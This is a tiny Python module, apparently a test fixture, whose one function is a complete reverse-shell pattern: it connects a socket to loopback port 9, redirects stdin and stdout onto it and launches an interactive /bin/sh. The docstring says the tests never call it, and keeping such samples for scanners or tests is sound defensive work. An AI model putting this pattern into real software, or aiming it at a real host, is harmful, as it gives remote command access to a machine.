# ruff: noqa
"""Connects a shell to a socket (loopback address, never called by the tests)."""

import os
import socket
import subprocess


def connect():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect(("127.0.0.1", 9))
    os.dup2(sock.fileno(), 0)
    os.dup2(sock.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
